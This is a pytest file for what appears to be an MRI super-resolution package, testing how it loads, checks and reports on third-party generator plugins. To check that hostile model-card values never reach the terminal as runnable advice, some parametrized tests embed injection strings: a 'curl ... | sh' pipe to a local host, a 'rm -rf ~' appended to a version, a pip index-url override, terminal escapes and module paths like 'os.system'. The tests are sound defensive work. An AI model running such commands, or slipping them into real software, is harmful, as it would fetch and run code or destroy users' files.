"""A generator from another installed package, found through its entry point (examples/plugin: mrisr-fsrcnn3d)."""

import re
import sys

import nibabel as nib
import numpy as np
import pytest
import torch

from mrisr.errors import ConfigError, InputError
from mrisr.models.registry import build, plugin_provenance
from tests.conftest import head, read_model_parts, write_model_parts

OPTIONS = {"name": "fsrcnn3d", "features": 8, "shrunk": 4, "mapping": 1}


@pytest.fixture
def installed(plugin_site, monkeypatch):
    monkeypatch.syspath_prepend(str(plugin_site))
    yield plugin_site
    for name in [m for m in sys.modules if m.startswith("mrisr_fsrcnn3d")]:
        del sys.modules[name]


def _card(path, scale, **generator):
    from mrisr.model_card import make_card, save_model

    config = {**OPTIONS, **generator, "scale": scale}
    torch.manual_seed(0)
    network = build("generator", config)
    card = make_card(variant_name="fsrcnn", variant={"kind": "gan", "generator": {**OPTIONS, **generator}}, scale=scale,
                     hr_voxel_mm=1.0, preprocessing={"orientation": "RAS", "crop": "none", "margin": 0,
                                                     "normalise": "volume"},
                     degradation={"method": "slice_profile"}, plugin=plugin_provenance("generator", "fsrcnn3d"),
                     training={"dataset": "demo", "subjects": ["01"], "steps": 1, "batch_size": 1, "seed": 0})
    return save_model(path, config, network.state_dict(), card), network


def test_a_plugin_is_built_by_its_entry_point_name_at_any_scale(installed):
    network = build("generator", {**OPTIONS, "scale": [1, 1, 4]})
    assert network(torch.randn(1, 1, 5, 6, 3)).shape == (1, 1, 5, 6, 12)
    provenance = plugin_provenance("generator", "fsrcnn3d")
    assert provenance == {"entry_point": "fsrcnn3d", "group": "mrisr.generators", "value": "mrisr_fsrcnn3d:build",
                          "package": "mrisr-fsrcnn3d", "version": "0.1.0"}
    assert plugin_provenance("generator", "rrdb") is None


def test_an_unknown_name_names_the_built_ins_and_the_fix():
    with pytest.raises(ConfigError, match="'nosuch' is neither a built-in generator .*mdcsrn, rrdb.*install the"):
        build("generator", {"name": "nosuch", "scale": 2})


def test_a_plugin_card_applies_to_a_raw_scan_and_stops_without_its_package(installed, tmp_path, monkeypatch, capsys):
    """Through the command line: a thick-slice scan through the plugin's card is the network's one pass on the
    card's z-score; with the package gone, the card stops naming the package to install."""
    from mrisr.cli import main

    model, network = _card(tmp_path / "model.safetensors", [1, 1, 4])
    scan = head(np.random.default_rng(2))[:, :, ::4].astype(np.float32)
    nib.save(nib.Nifti1Image(scan, np.diag([1.0, 1.0, 4.0, 1.0])), tmp_path / "thick.nii.gz")
    assert main(["super-resolve", "--model", str(model), "--tile", "6", str(tmp_path / "thick.nii.gz"),
                 str(tmp_path / "sr.nii.gz")]) == 0
    z = (scan - scan.mean()) / scan.std()
    with torch.inference_mode():
        direct = network.eval()(torch.from_numpy(z)[None, None])[0, 0].numpy() * scan.std() + scan.mean()
    sr = nib.load(tmp_path / "sr.nii.gz")
    assert sr.shape == (20, 22, 20) and np.allclose(sr.header.get_zooms(), 1.0)
    np.testing.assert_allclose(np.asanyarray(sr.dataobj), direct, rtol=1e-4, atol=1e-3 * np.ptp(scan))
    monkeypatch.setattr(sys, "path", [p for p in sys.path if p != str(installed)])
    assert main(["super-resolve", "--model", str(model), str(tmp_path / "thick.nii.gz"), str(tmp_path / "b.nii.gz")]) == 2
    err = capsys.readouterr().err
    assert "needs the generator plugin 'fsrcnn3d', which is not installed" in err
    assert "the model card says it came from mrisr-fsrcnn3d 0.1.0 (unchecked: pip install mrisr-fsrcnn3d==0.1.0" in err
    assert not (tmp_path / "b.nii.gz").exists()


@pytest.mark.parametrize("package, version, advice", [
    ("mrisr-fsrcnn3d; curl http://127.0.0.1:9/x | sh", "0.1.0", None),
    ("--index-url=http://127.0.0.1:9/simple", "0.1.0", None),
    ("mrisr-fsrcnn3d\x1b[2J\x1b[31m", "0.1.0", None),
    ("mrisr-fsrcnn3d", "0.1.0 && rm -rf ~", "pip install mrisr-fsrcnn3d only if you trust that name"),
    (None, None, None)])
def test_a_card_s_plugin_claim_is_offered_as_a_command_only_when_it_is_a_package_name_and_version(
        installed, tmp_path, monkeypatch, capsys, package, version, advice):
    """The package a card names is its claim: advice to pip-install it only for a PEP 508 name (and a PEP 440
    version), marked unchecked; anything else (a shell line, a pip option, terminal escapes) is never printed as a
    command, and no control character reaches the terminal."""
    from mrisr.cli import main

    model, _ = _card(tmp_path / "model.safetensors", 2)
    bundle = read_model_parts(model)
    bundle["card"]["plugin"] |= {"package": package, "version": version}
    write_model_parts(model, bundle)
    monkeypatch.setattr(sys, "path", [p for p in sys.path if p != str(installed)])
    nib.save(nib.Nifti1Image(head(np.random.default_rng(2)).astype(np.float32), np.eye(4)), tmp_path / "lr.nii.gz")
    assert main(["super-resolve", "--model", str(model), str(tmp_path / "lr.nii.gz"), str(tmp_path / "sr.nii.gz")]) == 2
    err = capsys.readouterr().err
    assert "needs the generator plugin 'fsrcnn3d', which is not installed" in err and "\x1b" not in err
    if advice:
        assert advice in err and "rm -rf" not in err
    else:
        assert "pip install" not in err and "the model card names no valid package" in err


def test_two_packages_registering_one_plugin_name_are_refused(installed, tmp_path, monkeypatch):
    """Which entry point Python lists first is an accident of the install order: a name two installed packages
    give is refused, naming both, instead of taking the first."""
    from mrisr.models.registry import plugin

    other = tmp_path / "site" / "other_sr-1.0.dist-info"
    other.mkdir(parents=True)
    (other / "METADATA").write_text("Metadata-Version: 2.1\nName: other-sr\nVersion: 1.0\n")
    (other / "entry_points.txt").write_text("[mrisr.generators]\nfsrcnn3d = other_sr:build\n")
    monkeypatch.syspath_prepend(str(tmp_path / "site"))
    with pytest.raises(ConfigError, match=r"'fsrcnn3d' is a plugin of 2 installed packages \(mrisr-fsrcnn3d, other-sr\)"):
        plugin("generator", "fsrcnn3d")


@pytest.mark.parametrize("name", ["mrisr_fsrcnn3d:build", "os.system", "../evil", "fsrcnn3d; rm"])
def test_a_card_naming_a_module_path_is_refused_before_anything_is_imported(installed, tmp_path, name):
    from mrisr.model_card import load_model

    model, _ = _card(tmp_path / "model.safetensors", 2)
    bundle = read_model_parts(model)
    bundle["generator"]["name"] = name
    write_model_parts(model, bundle)
    before = set(sys.modules)
    with pytest.raises(InputError, match="outside mrisr's limits \\(generator.name: .* does not match"):
        load_model(model)
    assert not {m for m in set(sys.modules) - before if not m.startswith(("jsonschema", "_"))}


def test_a_plugin_whose_stated_reach_is_too_small_is_refused(installed, tmp_path, monkeypatch):
    import mrisr_fsrcnn3d

    from mrisr.inference import load_generator

    model, _ = _card(tmp_path / "model.safetensors", 2)
    assert load_generator(model, "cpu")[0].reach == (5, 5, 5)  # 2 + 1 mapping conv + 1 + 1/2, rounded up
    monkeypatch.setattr(mrisr_fsrcnn3d.FSRCNN3d, "reach", property(lambda self: (1, 5, 5)))
    with pytest.raises(InputError, match=r"stated reach \(1, 5, 5\) is too small"):
        load_generator(model, "cpu")
    monkeypatch.setattr(mrisr_fsrcnn3d.FSRCNN3d, "reach", property(lambda self: None))
    with pytest.raises(InputError, match="states no reach"):
        load_generator(model, "cpu")


def test_the_reach_check_costs_nine_passes_whatever_the_reach_and_a_reach_over_the_cap_is_refused(
        installed, tmp_path, monkeypatch):
    """The check runs the plugin once on its probe and once per window, two windows along each axis, whatever
    the stated reach (it grew as reach⁶ before); a stated reach over MAX_REACH is refused before any pass."""
    import mrisr_fsrcnn3d

    from mrisr.inference import MAX_REACH, load_generator

    model, _ = _card(tmp_path / "model.safetensors", 2)
    passes = []
    forward = mrisr_fsrcnn3d.FSRCNN3d.forward
    monkeypatch.setattr(mrisr_fsrcnn3d.FSRCNN3d, "forward", lambda self, x: passes.append(x.shape) or forward(self, x))
    for reach in (5, 12):
        passes.clear()
        monkeypatch.setattr(mrisr_fsrcnn3d.FSRCNN3d, "reach", property(lambda self, r=reach: (r, r, r)))
        load_generator(model, "cpu")
        assert len(passes) == 9 and passes[0][2:] == (4 * reach + 8,) * 3
    passes.clear()
    monkeypatch.setattr(mrisr_fsrcnn3d.FSRCNN3d, "reach", property(lambda self: (MAX_REACH + 1, 1, 1)))
    with pytest.raises(InputError, match=f"over {MAX_REACH} LR voxels"):
        load_generator(model, "cpu")
    assert passes == []


def test_python_m_mrisr_does_not_import_a_plugin_s_module_from_the_current_folder(installed, tmp_path):
    """A file named like the plugin's module in the folder a user runs `python -m mrisr` from is not imported in the
    plugin's place: the installed plugin is (the run succeeds and the stand-in leaves no mark)."""
    import os
    import subprocess

    model, _ = _card(tmp_path / "model.safetensors", 2)
    nib.save(nib.Nifti1Image(head(np.random.default_rng(2)).astype(np.float32), np.eye(4)), tmp_path / "lr.nii.gz")
    here = tmp_path / "here"
    here.mkdir()
    (here / "mrisr_fsrcnn3d.py").write_text(f"open({str(tmp_path / 'imported')!r}, 'w').close()\n")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(installed), os.environ.get("PYTHONPATH", "")])}
    done = subprocess.run([sys.executable, "-m", "mrisr", "super-resolve", "--model", str(model),
                           str(tmp_path / "lr.nii.gz"), str(tmp_path / "sr.nii.gz")], cwd=here, env=env,
                          capture_output=True, text=True)
    assert done.returncode == 0, done.stderr[-2000:]
    assert not (tmp_path / "imported").exists() and (tmp_path / "sr.nii.gz").exists()


HOSTILE = '''
import torch
from torch import nn


class Plain(nn.Module):
    def __init__(self, scale=(2, 2, 2)):
        super().__init__()
        self.conv = nn.Conv3d(1, 1, 3, padding=1)

    def forward(self, x):
        return x


def no_options(scale):
    return Plain(scale)


def sparse(scale, **options):
    network = Plain(scale)
    network.register_buffer("table", torch.zeros(4, 4, device="cpu").to_sparse())
    return network


def meta(scale, **options):
    network = Plain(scale)
    return network.to("meta")
'''


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    """Four generator plugins of one installed package that does each thing wrong: its module raises on import, its
    builder takes no options, it builds sparse weights, it builds weights with no data (the meta device)."""
    site = tmp_path / "hostile_site"
    info = site / "hostile_sr-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: hostile-sr\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[mrisr.generators]\nbroken = hostile_broken:build\n"
                                           "strict = hostile_sr:no_options\nsparse = hostile_sr:sparse\n"
                                           "ghost = hostile_sr:meta\n")
    (site / "hostile_broken.py").write_text("raise RuntimeError('this plugin cannot start')\n")
    (site / "hostile_sr.py").write_text(HOSTILE)
    monkeypatch.syspath_prepend(str(site))
    yield site
    for name in [m for m in sys.modules if m.startswith("hostile_")]:
        del sys.modules[name]


@pytest.mark.parametrize("name, problem", [
    ("broken", "fails to import (RuntimeError: this plugin cannot start)"),
    ("strict", "cannot be built with the options ['depth', 'scale'] (TypeError"),
    ("sparse", "built weights that are sparse or hold no data (e.g. table)"),
    ("ghost", "built weights that are sparse or hold no data (e.g. conv.weight)")])
def test_a_plugin_that_misbehaves_is_named_with_the_fix_without_a_traceback(hostile, installed, tmp_path, capsys, name, problem):
    """In training's build and in a model file's check alike: the plugin and its package named, exit 2."""
    from mrisr.cli import main

    config = {"name": name, "depth": 2, "scale": 2}
    with pytest.raises(ConfigError, match=rf"the generator plugin '{name}' \(hostile_\w+:\w+, hostile-sr 1.0\) "
                                          rf".*{re.escape(problem)}"):
        build("generator", config)
    model = tmp_path / "model.safetensors"
    parts = read_model_parts(_card(tmp_path / "fsrcnn.safetensors", 2)[0])
    parts["generator"] = config
    parts["card"]["variant_config"]["generator"] = {"name": name, "depth": 2}
    parts["card"].pop("plugin")
    parts["state_dict"] = {"conv.weight": torch.zeros(1, 1, 3, 3, 3), "conv.bias": torch.zeros(1)}
    write_model_parts(model, parts)
    nib.save(nib.Nifti1Image(head(np.random.default_rng(2)).astype(np.float32), np.eye(4)), tmp_path / "lr.nii.gz")
    assert main(["super-resolve", "--model", str(model), str(tmp_path / "lr.nii.gz"), str(tmp_path / "sr.nii.gz")]) == 2
    err = capsys.readouterr().err
    assert f"{model}: names a generator that cannot be built" in err and problem in err and "Fix: " in err, err
    assert "Traceback" not in err and not (tmp_path / "sr.nii.gz").exists()


@pytest.mark.parametrize("option", [{"depth": 10**9}, {"depth": float("nan")}, {"label": "x" * 300},
                                    {f"o{i}": 1 for i in range(40)}, {"layers": [1, 2]}])
def test_a_plugin_s_options_are_bounded_before_its_builder_sees_them(tmp_path, option):
    """A model file or config cannot hand a plugin a huge size, NaN, a long string, many options or a container."""
    from mrisr.model_card import check_generator_config

    with pytest.raises(InputError, match="outside mrisr's limits"):
        check_generator_config({"name": "fsrcnn3d", "scale": 2, **option}, tmp_path / "model.safetensors")
